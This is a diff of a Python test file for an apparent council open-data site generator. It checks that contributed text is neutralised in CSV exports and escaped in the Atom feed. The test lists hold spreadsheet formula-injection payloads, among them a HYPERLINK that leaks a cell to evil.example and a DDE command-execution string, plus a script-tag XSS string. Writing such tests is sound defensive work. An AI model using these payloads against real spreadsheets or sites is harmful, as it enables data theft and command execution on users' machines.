@@ -9,6 +9,7 @@ import io
 import json
 import re
 import shutil
+import xml.dom.minidom
 import xml.etree.ElementTree as ET
 from pathlib import Path
 from typing import Any
@@ -17,7 +18,16 @@ import pytest
 
 from commons.model import build_catalog
 from commons.register import load_register
-from commons.site.exports import CSV_COLUMNS, FeedEntry, atom_feed, csv_cell, feed_entries, write_all, write_atomic
+from commons.site.exports import (
+    CSV_COLUMNS,
+    FeedEntry,
+    atom_feed,
+    csv_cell,
+    csv_document,
+    feed_entries,
+    write_all,
+    write_atomic,
+)
 from commons.site.history import FileDates
 from commons.site.state import SiteState, build_state
 from commons.validate import validate_repository
@@ -440,49 +450,182 @@ def test_docs_list_exactly_the_exported_fields(site: Path) -> None:
 
 # --- Contributed text in the exports is data, never a formula or broken XML ---------------------------------
 
-FORMULAS = ["=HYPERLINK(\"https://evil.example\",\"Open\")", "+1+1", "-1+1", "@SUM(1+1)", " =1+1", "\"=1+1",
-            "'=1+1", "\t=1+1", "=cmd|' /C calc'!A0"]
+# Text a spreadsheet would run as a formula, or that hides the start of one; each validates as a title.
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "=1+1", "+1+1", "-1+1", "-1", "@SUM(1+1)",
+            " =1+1", "   @SUM(1+1)", "\u00a0=1+1", '"=1+1', "'=1+1", "=cmd|' /C calc'!A0"]
+# The same behind control or invisible characters, which validation refuses (or may come to): made directly.
+HIDDEN_FORMULAS = ["\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x1b=1+1", "\u200b=1+1", "\ufeff=1+1", "-", "@",
+                   "\tplain", "\r\nplain", "\x00plain"]  # a leading control character is itself a risk
+# Text that already starts with ' gets one more, so that removing one always gives back the original.
+QUOTED = ["'Tis the season", "'"]
+NEUTRALISED = FORMULAS + HIDDEN_FORMULAS + QUOTED
+PLAIN = ["Publish housing repairs data", "Cut calls by 40% - then more", "a=b", "1;3", "2024-01-08", "",
+         "councils/hackney/#x", "Repairs; =1+1 is not where a cell starts", "£5 a month, in Cymraeg: £5 y mis",
+         "Tis", "5-a-side pitches", "#1 for repairs"]
+# The CSV columns we make ourselves from validated values, not from contributed text.
+COMPUTED = {"principles": "1;3", "start": "2024-01-08", "target": "2026-12-31", "last_update": "2026-02-10",
+            "stale": "false"}
 
 
-@pytest.mark.parametrize("title", FORMULAS)
-def test_a_csv_cell_that_could_be_a_formula_starts_with_a_quote(root: Path, tmp_path: Path, title: str) -> None:
+def published_csvs(site: Path) -> dict[str, list[dict[str, str]]]:
+    """Every CSV file in the written site, read back with the csv module (as a program reading it would)."""
+    out = {}
+    for path in sorted(site.rglob("*.csv")):
+        with path.open(encoding="utf-8", newline="") as f:  # newline="": a \r inside a cell stays a \r
+            out[path.relative_to(site).as_posix()] = list(csv.DictReader(f))
+    return out
+
+
+def could_run(cell: str) -> bool:
+    """Whether a spreadsheet could take `cell` for a formula: this test's own reading of OWASP's advice."""
+    if cell.startswith("'"):
+        return False
+    after_blanks = cell.lstrip(" \t\r\n\x00\x1b\u00a0\u200b\ufeff\"'")
+    return cell[:1] in {"\t", "\r", "\n", "\x00", "\x1b"} or after_blanks[:1] in {"=", "+", "-", "@"}
+
+
+def with_text_everywhere(state: SiteState, text: str) -> SiteState:
+    """`state` with `text` in every text field of Hackney and its commitment that the CSV carries."""
+    c = state.catalog
+    council = dataclasses.replace(c.councils["HCK"], code=text, name=text, nation=text, region=text, type=text,
+                                  type_name=text)
+    commitment = dataclasses.replace(c.commitments[0], id=text, title=text, status=text, partners=(text,),
+                                     patterns=(text,))
+    catalog = dataclasses.replace(c, councils={**c.councils, "HCK": council}, commitments=(commitment,))
+    return dataclasses.replace(state, catalog=catalog)
+
+
+@pytest.mark.parametrize("title", FORMULAS + QUOTED)
+def test_a_contributed_formula_is_text_in_every_csv(root: Path, tmp_path: Path, title: str) -> None:
     declaration = root / "councils" / "hackney" / "declaration.yml"
     text = declaration.read_text(encoding="utf-8")
-    escaped = title.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
+    # A JSON string is a YAML double-quoted one.
     declaration.write_text(text.replace("title: Publish housing repairs data openly every week",
-                                        f'title: "{escaped}"'), encoding="utf-8")
-    site = tmp_path / "hostile-site"
+                                        f"title: {json.dumps(title, ensure_ascii=False)}"), encoding="utf-8")
     state = build_state(root, today=TODAY)
     assert state.catalog.commitments[0].title == title  # validation accepts it: it is only text
+    site = tmp_path / "hostile-site"
     write_all(site, state)
-    rows = list(csv.DictReader(io.StringIO((site / "api/v1/commitments.csv").read_text(encoding="utf-8"),
-                                           newline="")))
-    assert rows[0]["title"] == "'" + title
-    assert rows[0]["council_code"] == "HCK" and rows[0]["start"] == "2024-01-08"  # the rest is untouched
+    csvs = published_csvs(site)
+    assert csvs and all(not could_run(cell) for rows in csvs.values() for row in rows for cell in row.values())
+    row = csvs["api/v1/commitments.csv"][0]
+    assert row["title"] == "'" + title
+    assert row["title"][1:] == title  # the open-data page's way back to the original
+    assert (row["council_code"], row["start"], row["principles"]) == ("HCK", "2024-01-08", "1;3")
     assert by(read_json(site, "commitments.json")["items"], "id", "open-repairs-data")["title"] == title
 
 
-@pytest.mark.parametrize("value", ["Publish repairs data", "2024-01-08", "1;3", "", "councils/hackney/#x",
-                                   "Cut calls by 40% - then more", "a=b"])
+@pytest.mark.parametrize("text", NEUTRALISED)
+def test_every_text_cell_of_every_csv_is_neutralised(state: SiteState, tmp_path: Path, text: str) -> None:
+    """Built directly, so that even text validation refuses is in every text column."""
+    site = tmp_path / "hostile-site"
+    write_all(site, with_text_everywhere(state, text))
+    csvs = published_csvs(site)
+    assert list(csvs) == ["api/v1/commitments.csv"]  # a new CSV needs its hostile row checked here too
+    for rows in csvs.values():
+        assert rows and all(not could_run(cell) for row in rows for cell in row.values())
+    [row] = csvs["api/v1/commitments.csv"]
+    assert row == {**{column: "'" + text for column in CSV_COLUMNS}, **COMPUTED,
+                   "url": f"councils/hackney/#{text}"}
+    # JSON has no formulas: it keeps the text exactly.
+    [cm] = read_json(site, "commitments.json")["items"]
+    assert (cm["id"], cm["title"], cm["status"], cm["partners"], cm["patterns"]) == (text, text, text, [text], [text])
+    assert by(read_json(site, "councils.json")["items"], "slug", "hackney")["name"] == text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_legitimate_text_is_unchanged_in_every_csv(state: SiteState, tmp_path: Path, text: str) -> None:
+    site = tmp_path / "plain-site"
+    write_all(site, with_text_everywhere(state, text))
+    [row] = published_csvs(site)["api/v1/commitments.csv"]
+    assert row == {**{column: text for column in CSV_COLUMNS}, **COMPUTED, "url": f"councils/hackney/#{text}"}
+
+
+def test_text_cells_are_quoted_and_only_numbers_we_computed_are_numbers() -> None:
+    """A number in text is still text ("-5" gets its '); a number our code made is written as a number."""
+    document = csv_document(("n", "text"), [[-5, "-5"], [-56.2, True], [None, "a;b"]])
+    assert document == b'"n","text"\r\n-5,"\'-5"\r\n-56.2,"true"\r\n"","a;b"\r\n'
+    rows = list(csv.reader(io.StringIO(document.decode("utf-8"), newline="")))
+    assert rows == [["n", "text"], ["-5", "'-5"], ["-56.2", "true"], ["", "a;b"]]
+
+
+@pytest.mark.parametrize("value", PLAIN)
 def test_a_csv_cell_that_cannot_be_a_formula_is_unchanged(value: str) -> None:
     assert csv_cell(value) == value
 
 
-@pytest.mark.parametrize("value", [*FORMULAS, "\r=1", "\n=1", "\x01=1", "-", "@"])
+@pytest.mark.parametrize("value", NEUTRALISED)
 def test_every_formula_start_is_neutralised(value: str) -> None:
     assert csv_cell(value) == "'" + value
 
 
+# Markup that must arrive as text, then characters XML 1.0 forbids (each becomes U+FFFD).
+MARKUP = "<script>alert(1)</script> ]]> &amp; & \"quoted\" 'single'"
+# Apart: a high surrogate just before a low one is a pair, one character, to a JSON reader.
+FORBIDDEN = "\x00\x01\ud800\x08\x0b\x0c\x1b\x1f\ufffe\uffff\udfff"
+HOSTILE = MARKUP + FORBIDDEN
+CLEANED = MARKUP + "\ufffd" * len(FORBIDDEN)
+
+
+def parsed_feeds(document: bytes) -> tuple[ET.Element, xml.dom.minidom.Document]:
+    """The feed read by two XML parsers; each refuses a document that is not well formed."""
+    return ET.fromstring(document), xml.dom.minidom.parseString(document)
+
+
 def test_the_feed_stays_well_formed_whatever_text_reaches_it() -> None:
-    hostile = "Bins \x01\x0b\ufffe\uffff\ud800 <script>alert(1)</script> ]]> & \"quoted\" 'single'"
-    entry = FeedEntry(f"{TAG}patterns/x", f"Pattern: {hostile}", TODAY, f"patterns/x/?a=1&b=\x02",
-                      hostile, "pattern")
-    document = atom_feed([entry], TODAY).encode("utf-8", "surrogatepass")
-    root = ET.fromstring(document)  # an XML parser refuses a document with any of those characters
+    entry = FeedEntry(f"{TAG}patterns/x{HOSTILE}", f"Pattern: {HOSTILE}", TODAY, f"patterns/x/?a=1&b={HOSTILE}",
+                      HOSTILE, f"pattern{HOSTILE}")
+    document = atom_feed([entry], TODAY).encode("utf-8")
+    root, dom = parsed_feeds(document)
     got = root.find(f"{ATOM}entry")
     assert got is not None
-    title = got.findtext(f"{ATOM}title") or ""
-    assert "<script>alert(1)</script> ]]> & \"quoted\"" in title
-    assert "\x01" not in title and "\ufffd" in title
-    link = got.find(f"{ATOM}link")
-    assert link is not None and link.get("href") == "patterns/x/?a=1&b=\ufffd"
+    assert got.findtext(f"{ATOM}id") == f"{TAG}patterns/x{CLEANED}"
+    assert got.findtext(f"{ATOM}title") == f"Pattern: {CLEANED}"
+    assert got.findtext(f"{ATOM}summary") == CLEANED
+    link, category = got.find(f"{ATOM}link"), got.find(f"{ATOM}category")
+    assert link is not None and link.get("href") == f"patterns/x/?a=1&b={CLEANED}"
+    assert category is not None and category.get("term") == f"pattern{CLEANED}"
+    [summary] = dom.getElementsByTagName("summary")
+    assert summary.firstChild is not None and summary.firstChild.nodeValue == CLEANED  # text, not elements
+    assert not dom.getElementsByTagName("script")
+    assert b"<script>" not in document and b"]]>" not in document
+
+
+def test_the_feed_of_a_hostile_catalog_is_well_formed(state: SiteState, tmp_path: Path) -> None:
+    """Every contributed field the feed carries, holding markup and characters XML forbids, written by a build."""
+    c = state.catalog
+    pattern = dataclasses.replace(c.patterns["report-a-missed-bin"], title=HOSTILE, summary=HOSTILE)
+    case = dataclasses.replace(c.case_studies["hackney-missed-bins"], title=HOSTILE, summary=HOSTILE)
+    playbook = dataclasses.replace(c.playbooks["adopt-a-pattern"], title=HOSTILE, summary=HOSTILE)
+    session = dataclasses.replace(c.sessions["ukgovcamp-2026/bin-forms"], title=HOSTILE, event=HOSTILE)
+    council = dataclasses.replace(c.councils["HCK"], short_name=HOSTILE)
+    cm = c.commitments[0]
+    commitment = dataclasses.replace(cm, id=f"x{HOSTILE}", title=HOSTILE,
+                                     history=tuple(dataclasses.replace(u, note=HOSTILE) for u in cm.history))
+    catalog = dataclasses.replace(
+        c, patterns={**c.patterns, pattern.slug: pattern}, case_studies={case.slug: case},
+        playbooks={playbook.slug: playbook}, sessions={session.key: session},
+        councils={**c.councils, "HCK": council}, commitments=(commitment,))
+    site = tmp_path / "hostile-site"
+    write_all(site, dataclasses.replace(state, catalog=catalog))
+    document = (site / "feed.xml").read_bytes()
+    root, dom = parsed_feeds(document)
+    entries = {e.findtext(f"{ATOM}id"): e for e in root.findall(f"{ATOM}entry")}
+    hostile = {f"{TAG}patterns/report-a-missed-bin": ("Pattern: " + CLEANED, CLEANED),
+               f"{TAG}case-studies/hackney-missed-bins": ("Case study: " + CLEANED, CLEANED),
+               f"{TAG}playbooks/adopt-a-pattern": ("Playbook: " + CLEANED, CLEANED),
+               f"{TAG}sessions/ukgovcamp-2026/bin-forms": ("Session: " + CLEANED, f"{CLEANED}, 2026-01-24")}
+    for id_, (title, summary) in hostile.items():
+        assert (entries[id_].findtext(f"{ATOM}title"), entries[id_].findtext(f"{ATOM}summary")) == (title, summary)
+    updates = [e for e in entries.values() if e.find(f"{ATOM}category[@term='commitment']") is not None]
+    assert len(updates) == 2
+    for e in updates:
+        assert (e.findtext(f"{ATOM}id") or "").startswith(f"{TAG}commitments/HCK/x{CLEANED}/")
+        assert e.findtext(f"{ATOM}title") in (f"{CLEANED}: {CLEANED} (Planned)", f"{CLEANED}: {CLEANED} (In progress)")
+        assert e.findtext(f"{ATOM}summary") == CLEANED
+        link = e.find(f"{ATOM}link")
+        assert link is not None and link.get("href") == f"councils/hackney/#x{CLEANED}"
+    assert not dom.getElementsByTagName("script")
+    assert b"<script>" not in document and b"]]>" not in document
+    # The JSON keeps every character, the lone surrogates too (as \\u escapes, since UTF-8 has no form for them).
+    assert by(read_json(site, "patterns.json")["items"], "slug", "report-a-missed-bin")["title"] == HOSTILE
